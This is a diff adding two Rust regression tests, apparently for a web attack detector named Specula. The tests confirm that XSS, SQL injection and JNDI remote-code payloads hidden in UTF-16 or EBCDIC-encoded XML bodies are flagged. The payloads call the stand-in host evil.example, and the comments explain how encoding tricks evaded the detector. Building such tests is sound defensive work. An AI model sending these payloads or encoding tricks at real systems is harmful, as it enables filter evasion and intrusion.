@@ -4269,3 +4269,105 @@ fn review33b_mysql_backslash_n_null_before_union() {
         );
     }
 }
+
+/// A UTF-16 XML body (RFC 7303 §3, XML 1.0 Appendix F: a byte order mark,
+/// or the zero bytes of `<?`): libxml2 (PHP `simplexml_load_string`,
+/// lxml), Xerces/Woodstox (Spring `@RequestBody` XML, JAXB), .NET
+/// `XmlReader` and expat read it as text and unescape `&lt;` in element
+/// text. Specula walked its raw bytes: every other byte NUL, so no entity
+/// was decoded (the NUL removal layer runs last, after the unescaping
+/// ones): `&lt;script src=…&gt;`, `&#39; or &#39;1&#39;=&#39;1` and
+/// `&#36;{jndi:…}` made no hit at all, and the locations held NULs.
+/// Severity: High.
+#[test]
+fn review35b_utf16_xml_body_is_read_as_text() {
+    let utf16 = |s: &str, bom: bool, be: bool| {
+        let mut v: Vec<u8> = match (bom, be) {
+            (false, _) => vec![],
+            (true, false) => vec![0xFF, 0xFE],
+            (true, true) => vec![0xFE, 0xFF],
+        };
+        for u in s.encode_utf16() {
+            v.extend_from_slice(&if be { u.to_be_bytes() } else { u.to_le_bytes() });
+        }
+        v
+    };
+    for (payload, class) in [
+        (
+            "&lt;script src=//evil.example/x.js&gt;&lt;/script&gt;",
+            AttackClass::Xss,
+        ),
+        ("1&#39; or &#39;1&#39;=&#39;1", AttackClass::Sqli),
+        ("&#36;{jndi:ldap://evil.example/a}", AttackClass::Rce),
+    ] {
+        let x = format!(r#"<?xml version="1.0" encoding="UTF-16"?><c><q>{payload}</q></c>"#);
+        for (bom, be, ct) in [
+            (true, false, "application/xml"),
+            (true, true, "text/xml"),
+            (false, false, "application/soap+xml"),
+            (true, false, ""),
+            (false, true, ""),
+        ] {
+            let r = req("POST", "/ws", &[("Content-Type", ct)], &utf16(&x, bom, be));
+            let h = hits_of(&r);
+            assert!(
+                h.iter()
+                    .any(|h| h.class == class && h.location == "body:xml:/c/q"),
+                "{payload} bom {bom} be {be} {ct:?}: {h:?}"
+            );
+        }
+    }
+}
+
+/// An EBCDIC XML body (XML 1.0 Appendix F: `4C 6F A7 94` is `<?xm` in
+/// IBM037): the JDK's Xerces (Spring, JAXB, any `DocumentBuilder`) detects
+/// it and decodes it by its `encoding` declaration, so an attack in it
+/// reaches a Java back end while no byte of it is ASCII text to a rule.
+/// Specula neither decoded it nor recorded it (a Content-Type `charset`
+/// naming the same charset is `protocol-charset-evasion`). Severity: High.
+#[test]
+fn review35b_ebcdic_xml_body_is_a_charset_evasion() {
+    // `<?xml version="1.0" encoding="IBM037"?><q>' or 1=1--</q>` in IBM037.
+    let ibm037 = |s: &str| -> Vec<u8> {
+        s.bytes()
+            .map(|b| match b {
+                b'<' => 0x4C,
+                b'?' => 0x6F,
+                b'>' => 0x6E,
+                b' ' => 0x40,
+                b'=' => 0x7E,
+                b'"' => 0x7F,
+                b'\'' => 0x7D,
+                b'.' => 0x4B,
+                b'-' => 0x60,
+                b'/' => 0x61,
+                b'0'..=b'9' => 0xF0 + (b - b'0'),
+                b'a'..=b'i' => 0x81 + (b - b'a'),
+                b'j'..=b'r' => 0x91 + (b - b'j'),
+                b's'..=b'z' => 0xA2 + (b - b's'),
+                b'A'..=b'I' => 0xC1 + (b - b'A'),
+                b'J'..=b'R' => 0xD1 + (b - b'J'),
+                b'S'..=b'Z' => 0xE2 + (b - b'S'),
+                _ => 0x40,
+            })
+            .collect()
+    };
+    let body = ibm037(r#"<?xml version="1.0" encoding="IBM037"?><q>' or 1=1--</q>"#);
+    assert_eq!(body.get(..4), Some(&[0x4C, 0x6F, 0xA7, 0x94][..]));
+    for ct in ["application/xml", "text/xml", ""] {
+        let r = req("POST", "/ws", &[("Content-Type", ct)], &body);
+        let h = hits_of(&r);
+        assert!(
+            h.iter().any(|h| &*h.rule_id == "protocol-charset-evasion"),
+            "{ct:?}: {h:?}"
+        );
+    }
+    // A UTF-8 document is no finding.
+    let r = req(
+        "POST",
+        "/ws",
+        &[("Content-Type", "application/xml")],
+        br#"<?xml version="1.0" encoding="UTF-8"?><q>1</q>"#,
+    );
+    assert!(hits_of(&r).is_empty(), "{:?}", hits_of(&r));
+}
